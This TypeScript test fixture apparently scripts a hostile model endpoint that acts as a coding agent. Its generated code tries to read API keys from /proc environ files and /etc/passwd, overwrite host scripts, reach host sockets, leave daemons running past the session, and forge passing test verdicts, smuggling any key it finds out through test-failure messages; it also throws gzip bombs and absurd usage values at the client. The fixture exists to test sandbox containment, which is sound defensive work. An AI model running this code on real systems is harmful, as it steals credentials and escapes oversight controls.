import type { Suite } from "../../src/tasks/types.js";
import { syntheticSuite } from "../../src/tasks/synthetic-suite.js";
import type { HostileReply } from "./client-hostile-server.js";

/**
 * An agent played by a hostile endpoint (issue 10, "Done when"): every reply writes agent code that
 * attacks the machine the sweep runs on, then asks for its tests to run, so the code executes in the
 * sweep's test runners; some replies are attacks on the client itself (a huge reply, a body that
 * never ends, a gzip bomb, absurd usage). What the code finds is printed as a failing test's message,
 * which the runtime puts into the next prompt: the exfiltration channel of a real attacker, so the
 * endpoint's request bodies show whether anything secret got out.
 */

/** Host things the attacks aim at; each exists on the host and must stay out of the sandbox's reach. */
export interface HostileTargets {
  /** Unique per sweep; in the name (and content) of everything the attacks try to write. */
  tag: string;
  /** A host folder outside the output folder. */
  outside: string;
  /** An executable script in `outside` the attacks try to overwrite (as the process.report attack did). */
  victim: string;
  /** A unix socket of the host, listening (by path). */
  hostSocket: string;
  /** A unix socket of the host in the abstract namespace (name without the leading NUL). */
  abstractSocket: string;
  /** The hostile endpoint's port on the host's 127.0.0.1. */
  serverPort: number;
  /** The project folder. */
  repo: string;
}

/** Attacks by agent-written code. `forge` only where the verdict is the harness's (the JS runner). */
export const CODE_ATTACKS = ["report-write", "read-secrets", "host-socket", "daemon", "forge"] as const;
export type CodeAttack = (typeof CODE_ATTACKS)[number];

/** Attacks on the client, by request number. */
export type ClientAttack = "huge-reply" | "endless-body" | "gzip-bomb" | "absurd-usage";

/** The runner that tests a suite's code: the JS sandbox runner, or a test command (`node check.cjs`). */
export type RunnerKind = "js" | "command";

/** The JS suites: synthetic chain-plus-independent suites; task k lives in `task<k>.js`, whose test imports it. */
export const HOSTILE_JS_SUITES: readonly Suite[] = [syntheticSuite({ n: 4, p: 0.5 }), syntheticSuite({ n: 5, p: 0.8 })];

/**
 * A suite tested by a command, as the paper's task lists are with `--test-command`: the command runs
 * agent-written code with all of Node's powers, so only the OS sandbox stands in the way.
 */
export const HOSTILE_COMMAND_SUITE: Suite = {
  id: "hostile_p05",
  domain: "hostile",
  p_label: "p05",
  title: "Checks",
  description: "Write check.cjs, which the test command runs (node check.cjs), and the modules it runs.",
  testCommand: "node check.cjs",
  tasks: [
    { id: "task-1", title: "Checks", description: "Write check.cjs.", dependencies: [], files: ["check.cjs"] },
    { id: "task-2", title: "Helper", description: "Write helper.cjs.", dependencies: [], files: ["helper.cjs"] },
  ],
};

export const HOSTILE_SUITES: readonly Suite[] = [...HOSTILE_JS_SUITES, HOSTILE_COMMAND_SUITE];

/** The marker at the start of every report the agent code prints, with the attack's name after it. */
export const REPORT_MARK = "hostile-report";

/** The body of an async function that fills `report` through `attempt(label, fn)`, for one attack. */
function attackBody(kind: CodeAttack): string {
  switch (kind) {
    case "report-write":
      return `
const fs = await import("node:fs");
const named = (s) => T.outside + "/pwned-" + T.tag + "-" + s;
await attempt("report.directory", () => { process.report.directory = T.outside; process.report.filename = "pwned-" + T.tag + "-report.json"; return process.report.writeReport(); });
await attempt("report.path", () => process.report.writeReport(named("direct.json")));
await attempt("report.victim", () => process.report.writeReport(T.victim));
await attempt("report.repo", () => process.report.writeReport(T.repo + "/pwned-" + T.tag + "-repo.json"));
await attempt("report.onFatal", () => { process.report.reportOnFatalError = true; process.report.reportOnUncaughtException = true; process.report.directory = T.outside; return "set"; });
await attempt("fs.outside", () => fs.writeFileSync(named("fs.txt"), "pwned " + T.tag));
await attempt("fs.victim", () => fs.writeFileSync(T.victim, "#!/bin/sh\\necho pwned " + T.tag + "\\n"));
await attempt("fs.repo", () => fs.writeFileSync(T.repo + "/pwned-" + T.tag + "-fs.txt", "pwned " + T.tag));
await attempt("fs.tmp", () => fs.writeFileSync("/tmp/pwned-" + T.tag + "-tmp.txt", "pwned " + T.tag));`;
    case "read-secrets":
      return `
const fs = await import("node:fs");
const read = (p) => fs.readFileSync(p, "utf8");
const grab = (text) => { const m = /OPENAI_API_KEY=([^\\0]*)/.exec(text); return m ? "KEY:" + m[1] : "nokey(" + text.length + ")"; };
await attempt("ppid.environ", () => grab(read("/proc/" + process.ppid + "/environ")));
await attempt("all.environ", () => fs.readdirSync("/proc").filter((p) => /^\\d+$/.test(p)).map((p) => { try { return p + ":" + grab(read("/proc/" + p + "/environ")); } catch (e) { return p + ":" + e.code; } }).join(" "));
await attempt("env", () => grab(Object.entries(process.env).map(([k, v]) => k + "=" + v).join("\\0")));
await attempt("passwd", () => read("/etc/passwd").split("\\n").length + " lines");
await attempt("project", () => read(T.repo + "/package.json").slice(0, 40));
await attempt("root.home", () => fs.readdirSync("/root").join(","));`;
    case "host-socket":
      return `
const net = await import("node:net");
const connect = (opts) => new Promise((res, rej) => { const s = net.connect(opts); const t = setTimeout(() => { s.destroy(); rej(new Error("timeout")); }, 1000); s.on("connect", () => { clearTimeout(t); s.end("hello from agent code " + T.tag); res("connected"); }); s.on("error", (e) => { clearTimeout(t); rej(e); }); });
await attempt("unix.path", () => connect({ path: T.hostSocket }));
await attempt("unix.abstract", () => connect({ path: "\\0" + T.abstractSocket }));
await attempt("tcp.loopback", () => connect({ host: "127.0.0.1", port: T.serverPort }));
await attempt("listen.outside", () => new Promise((res, rej) => { const srv = net.createServer(); srv.on("error", rej); srv.listen(T.outside + "/pwned-" + T.tag + ".sock", () => { srv.close(); res("listening"); }); }));
await attempt("raw.pipe", () => new Promise((res, rej) => {
  const { Pipe, PipeConnectWrap, constants } = process.binding("pipe_wrap");
  const h = new Pipe(constants.SOCKET); const req = new PipeConnectWrap();
  req.oncomplete = (status) => (status === 0 ? res("connected") : rej(new Error("status " + status)));
  const err = h.connect(req, T.hostSocket); if (err) rej(new Error("connect " + err)); setTimeout(() => rej(new Error("timeout")), 1000);
}));`;
    case "daemon":
      return `
const cp = await import("node:child_process");
const beat = "while :; do echo " + T.tag + " >> " + T.outside + "/pwned-" + T.tag + "-daemon.txt; sleep 1; done";
const daemon = (label, script) => attempt(label, () => { const c = cp.spawn("setsid", ["sh", "-c", script, "hostile-daemon-" + T.tag], { detached: true, stdio: "ignore" }); c.unref(); return c.pid; });
await daemon("setsid", beat);
await daemon("setsid.closed", "exec </dev/null >/dev/null 2>&1; " + beat);
await daemon("double.fork", "(setsid sh -c '" + beat + "' hostile-daemon-" + T.tag + " &); exit 0");
await new Promise((r) => setTimeout(r, 300));`;
    case "forge":
      // Frozen intrinsics make these assignments throw in strict code: caught, so the module loads.
      return `
await attempt("toJSON", () => { Object.prototype.toJSON = function () { return { passed: 1, failed: 0, failures: [] }; }; return "set"; });
await attempt("Promise.race", () => { Promise.race = function () { return Promise.resolve({ passed: 1, failed: 0, failures: [] }); }; return "set"; });
await attempt("globalThis.Promise", () => { globalThis.Promise = class extends Promise {}; return "set"; });
await attempt("JSON.stringify", () => { JSON.stringify = () => '{"passed":1,"failed":0,"failures":[]}'; return "set"; });`;
  }
}

/** Shared preamble: the targets, `report` and `attempt`, and the one-line summary (leaks first, cut to 1000 characters). */
function preamble(kind: CodeAttack, t: HostileTargets): string {
  return `const T = ${JSON.stringify(t)};
const report = {};
const attempt = async (label, fn) => { try { report[label] = { ok: true, value: String(await fn()).slice(0, 300) }; } catch (e) { report[label] = { ok: false, code: String((e && (e.code || e.name)) || e) }; } };
const summary = () => { const all = JSON.stringify(report); const leaks = all.match(/KEY:[^"]*/g) || []; return (${JSON.stringify(`${REPORT_MARK} ${kind} `)} + leaks.join(" ") + " " + all).slice(0, 1000); };
`;
}

/**
 * Agent code for one attack. JS: the module `task<k>.js` that task-k's test imports (ESM), exporting a
 * wrong `task<k>()` (999: no task's value), so only a forged verdict could pass it. Command: a module
 * `attack-<agent>.cjs` exporting an async function that returns the report line (`check.cjs` runs them).
 */
export function attackSource(kind: CodeAttack, runner: RunnerKind, t: HostileTargets, k = 1): string {
  const body = attackBody(kind);
  if (runner === "js") {
    return `${preamble(kind, t)}await (async () => {${body}\n})();
export function task${k}() {
  return 999;
}
${kind === "forge" ? "" : "throw new Error(summary());\n"}`;
  }
  return `${preamble(kind, t)}module.exports = async () => {${body}\n  return summary();\n};\n`;
}

/**
 * The test command's `check.cjs`, the same from every agent: it runs every `attack-*.cjs` of the
 * workspace in turn and prints each one's report as a failed test, so that the attacks of all agents
 * of a round run, whichever agent's write came last.
 */
export const CHECK_LOADER = `const fs = require("node:fs");
(async () => {
  for (const f of fs.readdirSync(__dirname).filter((f) => /^attack-.*\\.cjs$/.test(f)).sort()) {
    try { console.log("FAILED " + (await require("./" + f)())); }
    catch (e) { console.log("FAILED ${REPORT_MARK} crashed " + String(e)); }
  }
  process.exit(1);
})();
`;

/**
 * The reply text of agent number `agent` (0-based): claim its task (refused where not free), write the
 * attack, run the task's tests, complete it. JS: agent i attacks task<(i mod 4) + 1>.js, so that the
 * agents of one round do not overwrite each other's code; command: its own attack-Dev<i + 1>.cjs.
 */
export function attackReply(kind: CodeAttack, runner: RunnerKind, t: HostileTargets, agent = 0): string {
  const k = runner === "js" ? (agent % 4) + 1 : 1;
  const writes =
    runner === "js"
      ? [`<write path="task${k}.js">\n${attackSource(kind, runner, t, k)}</write>`]
      : [`<write path="check.cjs">\n${CHECK_LOADER}</write>`, `<write path="attack-Dev${agent + 1}.cjs">\n${attackSource(kind, runner, t)}</write>`];
  return ["Running a few checks first.", `<claim task="task-${k}"/>`, ...writes, `<run_tests task="task-${k}"/>`, `<complete task="task-${k}"/>`].join("\n");
}

/** What the endpoint did, for the checks. */
export interface HostileLog {
  /** Code attacks sent, by runner kind and attack. */
  sent: Record<RunnerKind, Record<CodeAttack, number>>;
  /** Client attacks sent, by kind. */
  client: Record<ClientAttack, number>;
}

/**
 * Which code attack a request gets: by round, agent and suite, read from its prompt, so that in the
 * first two rounds (whose test output reaches a later prompt) a team of one or two agents on the two
 * JS suites and on the command suite sends every attack to each runner, whatever the order in which
 * requests arrive: index ((round - 1) * 2 + agent index + suite index) mod the number of attacks.
 */
export function attackFor(body: string, runner: RunnerKind): { kind: CodeAttack; agent: number } {
  const attacks = runner === "js" ? CODE_ATTACKS : CODE_ATTACKS.filter((k) => k !== "forge");
  const who = /Round (\d+) of at most \d+\. You are Dev(\d+)/.exec(body);
  const round = who ? Number(who[1]) : 1;
  const agent = who ? Number(who[2]) - 1 : 0;
  const suite = runner === "js" && body.includes("task5.js") ? 1 : 0;
  return { kind: attacks[((round - 1) * 2 + agent + suite) % attacks.length]!, agent };
}

/**
 * The endpoint's answer to request `n`: a client attack when `clientAttack(n, place)` names one (the
 * round and team size read from the prompt), otherwise a code attack (`attackFor`).
 */
/** What a request's prompt says of its place in the run: the round and the team's size (0 when unreadable). */
export interface PromptPlace {
  round: number;
  team: number;
}

export function promptPlace(body: string): PromptPlace {
  const m = /Round (\d+) of at most \d+\. You are [^.]*\. Team: ([^;.\\]+)/.exec(body);
  return m ? { round: Number(m[1]), team: m[2]!.split(", ").length } : { round: 0, team: 0 };
}

export function hostileScript(
  t: HostileTargets,
  clientAttack: (n: number, place: PromptPlace) => ClientAttack | null,
): { script: (n: number, body: string) => HostileReply; log: HostileLog } {
  const zero = (): Record<CodeAttack, number> => Object.fromEntries(CODE_ATTACKS.map((k) => [k, 0])) as Record<CodeAttack, number>;
  const log: HostileLog = { sent: { js: zero(), command: zero() }, client: { "huge-reply": 0, "endless-body": 0, "gzip-bomb": 0, "absurd-usage": 0 } };
  const usage = { prompt_tokens: 1200, completion_tokens: 300 };
  const script = (n: number, body: string): HostileReply => {
    const runner: RunnerKind = body.includes("check.cjs") ? "command" : "js";
    const { kind, agent } = attackFor(body, runner);
    const client = clientAttack(n, promptPlace(body));
    if (client !== null) log.client[client]++;
    switch (client) {
      case "endless-body":
        return { kind: "endless", budgetBytes: 256 * 1024 * 1024 };
      case "gzip-bomb":
        return { kind: "gzip-bomb", members: 32 };
      case "huge-reply":
        // 2.5 MB of one character in the reply, and a 250,000-character file of one character:
        // both were quadratic to count tokens of before.
        return { kind: "usage", usage, text: `${"a".repeat(2_500_000)}\n<write path="big.txt">\n${"b".repeat(250_000)}</write>` };
      case "absurd-usage":
        log.sent[runner][kind]++;
        return { kind: "usage", usage: { prompt_tokens: 2 ** 53, completion_tokens: -7, total_tokens: "lots" }, text: attackReply(kind, runner, t, agent) };
      case null:
        log.sent[runner][kind]++;
        return { kind: "usage", usage, text: attackReply(kind, runner, t, agent) };
    }
  };
  return { script, log };
}

